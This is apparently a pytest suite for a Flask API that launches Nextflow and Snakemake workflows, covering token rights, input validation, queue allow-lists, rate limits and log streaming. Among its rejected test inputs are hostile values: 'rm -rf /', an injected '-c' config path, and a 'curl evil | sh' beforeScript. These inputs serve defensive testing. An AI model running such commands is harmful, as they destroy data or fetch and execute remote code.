"""The launch API in-process: rights, validation, queues, rate limits, logs, per-launch tokens."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from panoptes import create_app
from panoptes.launcher import store as launches
from panoptes.launcher.queues import Queue, parse

QUEUES = {"local": {"executor": "local", "max_active": 1}}


def bearer(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


def basic(secret: str) -> dict[str, str]:
    pair = base64.b64encode(f"@token:{secret}".encode()).decode()
    return {"Authorization": f"Basic {pair}"}


def make_token(app: Flask, name: str, scope: str | None = None) -> str:
    args = ["token", "create", name] + (["--scope", scope] if scope else [])
    result = app.test_cli_runner().invoke(args=args)
    assert result.exit_code == 0, result.output
    return result.stdout.strip().splitlines()[0]


@pytest.fixture
def launch_app(app_factory: Callable[..., Flask]) -> Flask:
    return app_factory(QUEUES=QUEUES, TOKEN_CACHE_SECONDS=0)


@pytest.fixture
def launcher(launch_app: Flask) -> dict[str, str]:
    return bearer(make_token(launch_app, "launcher", "launch"))


def post(client: FlaskClient, headers: dict[str, str], **body: Any) -> Any:
    return client.post("/api/launches", json=body, headers=headers)


def test_launching_needs_the_launch_right_even_on_an_open_hub(launch_app: Flask) -> None:
    client = launch_app.test_client()
    body = {"engine": "snakemake", "pipeline": "/pipelines/x"}
    assert client.post("/api/launches", json=body).status_code == 401
    assert client.get("/api/launches").status_code == 401
    reader = make_token(launch_app, "reader", "read,ingest")
    legacy = make_token(launch_app, "legacy")
    for secret in (reader, legacy):
        refused = client.post("/api/launches", json=body, headers=bearer(secret))
        assert refused.status_code == 403 and refused.get_json()["error"] == "forbidden"
    launcher = make_token(launch_app, "launcher", "launch")
    answer = client.post("/api/launches", json=body, headers=bearer(launcher))
    assert answer.status_code == 201
    launch = answer.get_json()["launch"]
    assert launch["status"] == "queued" and launch["requested_by"] == "launcher"
    assert launch["queue"] == "local" and launch["executor"] == "local"
    assert len(launch["workflow_id"]) == 14


def test_static_token_carries_every_right(app_factory: Callable[..., Flask]) -> None:
    app = app_factory(QUEUES=QUEUES, TOKEN="s3cret-static-token")
    client = app.test_client()
    body = {"engine": "nextflow", "pipeline": "hello"}
    assert client.post("/api/launches", json=body).status_code == 401
    answer = client.post("/api/launches", json=body, headers=bearer("s3cret-static-token"))
    assert answer.status_code == 201
    assert answer.get_json()["launch"]["requested_by"] == "PANOPTES_TOKEN"


def test_launch_only_tokens_leave_reading_and_ingestion_open(
    launch_app: Flask, launcher: dict[str, str]
) -> None:
    client = launch_app.test_client()
    assert client.get("/api/workflows").status_code == 200
    assert client.post("/trace/create", json={"runName": "x"}).status_code == 200
    make_token(launch_app, "reader", "read")
    assert client.get("/api/workflows").status_code == 401  # now tokens are required


def test_a_token_with_only_read_cannot_change_or_ingest(launch_app: Flask) -> None:
    client = launch_app.test_client()
    reader = bearer(make_token(launch_app, "reader", "read"))
    assert client.get("/api/workflows", headers=reader).status_code == 200
    assert client.post("/trace/create", json={}, headers=reader).status_code == 403
    assert client.delete("/api/workflows/all", headers=reader).status_code == 403


def test_token_create_refuses_unknown_rights(launch_app: Flask) -> None:
    result = launch_app.test_cli_runner().invoke(
        args=["token", "create", "x", "--scope", "read,fly"]
    )
    assert result.exit_code != 0 and "fly" in result.output


@pytest.mark.parametrize(
    ("body", "status", "field"),
    [
        ({"engine": "cromwell", "pipeline": "x"}, 400, "engine"),
        ({"engine": "nextflow"}, 400, "pipeline"),
        ({"engine": "nextflow", "pipeline": "x", "shell": "rm -rf /"}, 400, "shell"),
        ({"engine": "nextflow", "pipeline": "x", "work_dir": "relative"}, 400, "work_dir"),
        ({"engine": "nextflow", "pipeline": "x", "args": ["a\x00b"]}, 400, "args"),
        ({"engine": "nextflow", "pipeline": "x", "params": [1]}, 400, "params"),
        ({"engine": "nextflow", "pipeline": "x", "queue": "gpu"}, 400, None),
        ({"engine": "nextflow", "pipeline": "-c=/tmp/evil.config"}, 400, "pipeline"),
        ({"engine": "nextflow", "pipeline": "x", "run_name": "-resume"}, 400, "run_name"),
    ],
)
def test_invalid_launches_are_refused(
    launch_app: Flask,
    launcher: dict[str, str],
    body: dict[str, Any],
    status: int,
    field: str | None,
) -> None:
    answer = launch_app.test_client().post("/api/launches", json=body, headers=launcher)
    assert answer.status_code == status
    error = answer.get_json()
    assert set(error) >= {"error", "message", "status"}
    if field:
        assert field in error["message"]


def test_without_queues_launching_is_off_and_says_how_to_turn_it_on(
    app_factory: Callable[..., Flask],
) -> None:
    app = app_factory()
    client = app.test_client()
    headers = bearer(make_token(app, "launcher", "launch"))
    answer = post(client, headers, engine="nextflow", pipeline="hello")
    assert answer.status_code == 409 and "panoptes.toml" in answer.get_json()["message"]
    queues = client.get("/api/queues", headers=headers).get_json()
    assert queues["launching"] is False and "[queues." in queues["message"]


def test_the_default_queue_and_allow_lists(app_factory: Callable[..., Flask]) -> None:
    app = app_factory(
        QUEUES={
            "first": {"executor": "local"},
            "main": {"executor": "local", "default": True, "allow": ["hello"]},
        }
    )
    client = app.test_client()
    headers = bearer(make_token(app, "launcher", "launch"))
    answer = post(client, headers, engine="nextflow", pipeline="hello")
    assert answer.get_json()["launch"]["queue"] == "main"
    refused = post(client, headers, engine="nextflow", pipeline="nf-core/rnaseq")
    assert refused.status_code == 403 and "does not allow" in refused.get_json()["message"]
    other = post(client, headers, engine="nextflow", pipeline="nf-core/rnaseq", queue="first")
    assert other.status_code == 201
    # Nothing may bring other code onto a queue with an allow-list.
    for extra in (
        {"args": ["-c", "/tmp/evil.config"]},
        {"config": "process.beforeScript = 'curl evil | sh'"},
        {"profile": "/tmp/evil-profile"},
        {"work_dir": "/tmp/with-a-nextflow-config"},
    ):
        sneaky = post(client, headers, engine="nextflow", pipeline="hello", **extra)
        assert sneaky.status_code == 403, extra
        assert "only its allowed pipelines" in sneaky.get_json()["message"]
    assert (
        post(client, headers, engine="nextflow", pipeline="hello", profile="test").status_code
        == 201
    )


def test_launches_are_rate_limited_per_token(app_factory: Callable[..., Flask]) -> None:
    app = app_factory(QUEUES=QUEUES, LAUNCH_RATE_LIMIT="2 per hour")
    client = app.test_client()
    first = bearer(make_token(app, "first", "launch"))
    second = bearer(make_token(app, "second", "launch"))
    answers = [post(client, first, engine="nextflow", pipeline="x") for _ in range(3)]
    assert [answer.status_code for answer in answers] == [201, 201, 429]
    refused = answers[-1]
    assert refused.get_json()["error"] == "too_many_requests"
    assert 0 < int(refused.headers["Retry-After"]) <= 3600
    assert post(client, second, engine="nextflow", pipeline="x").status_code == 201


def test_list_filters_and_pages(launch_app: Flask, launcher: dict[str, str]) -> None:
    client = launch_app.test_client()
    ids = [
        post(client, launcher, engine=engine, pipeline="p").get_json()["launch"]["id"]
        for engine in ("nextflow", "snakemake", "nextflow")
    ]
    listed = client.get("/api/launches?engine=nextflow", headers=launcher).get_json()
    assert listed["total"] == 2 and [x["id"] for x in listed["launches"]] == [ids[2], ids[0]]
    page = client.get("/api/launches?limit=1&offset=1", headers=launcher).get_json()
    assert page["total"] == 3 and [x["id"] for x in page["launches"]] == [ids[1]]
    assert client.get("/api/launches?status=bogus", headers=launcher).status_code == 400
    assert client.get("/api/launches/Lnone", headers=launcher).status_code == 404


def test_cancel_drops_a_queued_launch_and_relaunch_queues_a_copy(
    launch_app: Flask, launcher: dict[str, str]
) -> None:
    client = launch_app.test_client()
    launch = post(
        client, launcher, engine="nextflow", pipeline="hello", params={"a": 1}, args=["-x"]
    ).get_json()["launch"]
    cancelled = client.post(f"/api/launches/{launch['id']}/cancel", headers=launcher)
    assert cancelled.get_json()["launch"]["status"] == "cancelled"
    again = client.post(
        f"/api/launches/{launch['id']}/relaunch", json={"resume": True}, headers=launcher
    )
    assert again.status_code == 201
    copy = again.get_json()["launch"]
    assert copy["relaunch_of"] == launch["id"] and copy["resume"] is True
    assert copy["params"] == {"a": 1} and copy["args"] == ["-x"]
    assert copy["workflow_id"] != launch["workflow_id"] and copy["status"] == "queued"
    assert copy["work_dir"].endswith(launch["id"])  # -resume needs the same work dir


def test_log_by_offset_and_tail_and_as_a_resumable_stream(
    launch_app: Flask, launcher: dict[str, str]
) -> None:
    client = launch_app.test_client()
    launch = post(client, launcher, engine="nextflow", pipeline="x").get_json()["launch"]
    with launch_app.app_context():
        launches.append_log(launch["id"], "one\ntwo\n")
        launches.append_log(launch["id"], "thrée\nfour\n")
    whole = client.get(f"/api/launches/{launch['id']}/log", headers=launcher)
    assert whole.get_data(as_text=True) == "one\ntwo\nthrée\nfour\n"
    assert whole.headers["X-Log-Offset"] == str(len("one\ntwo\nthrée\nfour\n"))
    rest = client.get(f"/api/launches/{launch['id']}/log?offset=6", headers=launcher)
    assert rest.get_data(as_text=True) == "o\nthrée\nfour\n"
    tail = client.get(f"/api/launches/{launch['id']}/log?tail=2", headers=launcher)
    assert tail.get_data(as_text=True) == "thrée\nfour\n"
    with launch_app.app_context():
        launches.finished(launch["id"], launches.SUCCEEDED, 0)
    stream = client.get(
        f"/api/launches/{launch['id']}/log/stream",
        headers={**launcher, "Last-Event-ID": "8"},
    ).get_data(as_text=True)
    assert 'data: {"text": "thr\\u00e9e\\nfour\\n", "status": "succeeded"}' in stream
    assert "id: 19" in stream and "event: end" in stream


def test_a_launch_token_may_send_events_only_while_its_launch_runs(
    app_factory: Callable[..., Flask],
) -> None:
    app = app_factory(QUEUES=QUEUES, TOKEN="static-token-of-the-hub", TOKEN_CACHE_SECONDS=0)
    client = app.test_client()
    post(client, bearer("static-token-of-the-hub"), engine="nextflow", pipeline="hello")
    with app.app_context():
        claimed = launches.claim("local", 1, "test-worker", "here")
    assert claimed is not None
    launch, secret = claimed
    create = {"runName": "x", "workflowId": launch.workflow_id}
    assert client.post("/trace/create", json=create, headers=basic(secret)).status_code == 200
    assert client.get("/api/workflows", headers=basic(secret)).status_code == 403
    with app.app_context():
        launches.finished(launch.id, launches.SUCCEEDED, 0)
    assert client.post("/trace/create", json=create, headers=basic(secret)).status_code == 401


def test_claims_respect_max_active_and_order(launch_app: Flask, launcher: dict[str, str]) -> None:
    client = launch_app.test_client()
    ids = [
        post(client, launcher, engine="nextflow", pipeline="p").get_json()["launch"]["id"]
        for _ in range(2)
    ]
    with launch_app.app_context():
        first = launches.claim("local", 1, "w1", "here")
        assert first is not None and first[0].id == ids[0]
        assert launches.claim("local", 1, "w2", "here") is None
        launches.finished(ids[0], launches.SUCCEEDED, 0)
        second = launches.claim("local", 1, "w2", "here")
        assert second is not None and second[0].id == ids[1]


def test_queue_tables_are_checked() -> None:
    queues = parse({"hpc": {"executor": "slurm", "max_active": 3, "slurm_partition": "short"}})
    assert queues["hpc"] == Queue(
        name="hpc", executor="slurm", max_active=3, slurm_partition="short"
    )
    for table, problem in [
        ({"executor": "k8s"}, "executor"),
        ({"max_active": 0}, "max_active"),
        ({"colour": "red"}, "colour"),
        ({"env": {"A": 1}}, "env"),
        ({"allow": "x"}, "allow"),
        ({"run_scripts": "yes"}, "run_scripts"),
        ({"run_scripts": True, "allow": ["hello"]}, "allow list cannot run scripts"),
    ]:
        with pytest.raises(ValueError, match=problem):
            parse({"q": table})


def test_the_config_file_gives_queues_and_settings(
    tmp_path: Path, app_factory: Callable[..., Flask], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = tmp_path / "panoptes.toml"
    config.write_text('stale_hours = 5.0\n[queues.local]\nexecutor = "local"\nmax_active = 2\n')
    app = app_factory(CONFIG=str(config))
    assert app.config["STALE_HOURS"] == 5.0
    assert app.config["QUEUES"]["local"]["max_active"] == 2
    monkeypatch.setenv("PANOPTES_STALE_HOURS", "7")
    assert app_factory(CONFIG=str(config)).config["STALE_HOURS"] == 7.0  # env wins
    config.write_text('[queues.local]\nexecutor = "cloud"\n')
    with pytest.raises(ValueError, match="executor"):
        app_factory(CONFIG=str(config))


def test_the_example_configuration_parses_and_shows_every_queue_key() -> None:
    from panoptes.config import read_file
    from panoptes.launcher.queues import _KNOWN_KEYS

    example = Path(__file__).resolve().parents[2] / "panoptes.toml.example"
    settings, tables = read_file(example)
    assert settings == {} and set(parse(tables)) == {"local", "hpc"}
    text = example.read_text()
    for key in _KNOWN_KEYS:
        assert re.search(rf"^#? ?{key} = ", text, re.M), key


def test_a_relaunch_resumes_on_an_allow_listed_queue(app_factory: Callable[..., Flask]) -> None:
    app = app_factory(QUEUES={"main": {"executor": "local", "allow": ["hello"]}})
    client = app.test_client()
    headers = bearer(make_token(app, "launcher", "launch"))
    first = post(client, headers, engine="nextflow", pipeline="hello").get_json()["launch"]
    again = client.post(
        f"/api/launches/{first['id']}/relaunch", json={"resume": True}, headers=headers
    )
    assert again.status_code == 201 and again.get_json()["launch"]["work_dir"]


def test_scripts_run_only_where_the_queue_says_so_and_a_relaunch_keeps_them(
    app_factory: Callable[..., Flask],
) -> None:
    app = app_factory(
        QUEUES={
            "plain": {"executor": "local", "default": True},
            "scripted": {"executor": "local", "run_scripts": True},
        }
    )
    client = app.test_client()
    headers = bearer(make_token(app, "launcher", "launch"))
    scripts = {"pre_run_script": "module load java\n", "post_run_script": "ls results\n"}
    refused = post(client, headers, engine="nextflow", pipeline="hello", **scripts)
    assert refused.status_code == 403 and "run_scripts = true" in refused.get_json()["message"]
    accepted = post(
        client, headers, engine="nextflow", pipeline="hello", queue="scripted", **scripts
    )
    assert accepted.status_code == 201
    first = accepted.get_json()["launch"]
    assert first["pre_run_script"] == scripts["pre_run_script"]
    assert first["post_run_script"] == scripts["post_run_script"]
    again = client.post(f"/api/launches/{first['id']}/relaunch", json={}, headers=headers)
    assert again.status_code == 201
    assert again.get_json()["launch"]["pre_run_script"] == scripts["pre_run_script"]
    # A queue that stops running scripts refuses their relaunches too.
    app.config["QUEUES"] = {"scripted": {"executor": "local"}}
    stopped = client.post(f"/api/launches/{first['id']}/relaunch", json={}, headers=headers)
    assert stopped.status_code == 403


def test_several_windows_all_hold(app_factory: Callable[..., Flask]) -> None:
    app = app_factory(QUEUES=QUEUES, LAUNCH_RATE_LIMIT="5 per hour; 2 per minute")
    client = app.test_client()
    headers = bearer(make_token(app, "first", "launch"))
    answers = [post(client, headers, engine="nextflow", pipeline="x") for _ in range(3)]
    assert [answer.status_code for answer in answers] == [201, 201, 429]
    assert 0 < int(answers[-1].headers["Retry-After"]) <= 60  # the minute's window is the full one


@pytest.mark.parametrize("name", ["LAUNCH_RATE_LIMIT", "AUTH_FAILURE_LIMIT"])
def test_a_rate_that_does_not_parse_stops_the_start(database_url: str, name: str) -> None:
    with pytest.raises(RuntimeError, match=f"PANOPTES_{name} is refused"):
        create_app({"SQLALCHEMY_DATABASE_URI": database_url, name: "thirty a minute"})
